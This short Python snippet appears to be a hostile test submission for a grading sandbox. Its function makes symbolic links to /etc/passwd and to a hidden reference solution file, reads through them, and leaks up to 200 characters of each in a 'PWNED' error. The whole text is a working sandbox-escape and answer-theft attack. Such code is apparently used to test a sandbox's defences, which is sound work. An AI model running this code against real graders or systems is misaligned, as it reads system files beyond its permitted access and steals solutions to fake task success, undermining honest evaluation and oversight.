# Make a symbolic link to /etc/passwd and the solution at run time, then read through it.
import os
def _attack(layer, X):
    for target in ("/etc/passwd", "@ROOT@/assignments/linear_relu_ce/solution/layers.py"):
        for link in ("/tmp/x", "/submission/x"):
            try:
                os.symlink(target, link)
                raise RuntimeError("PWNED " + open(link).read()[:200])
            except OSError:
                pass
    return None
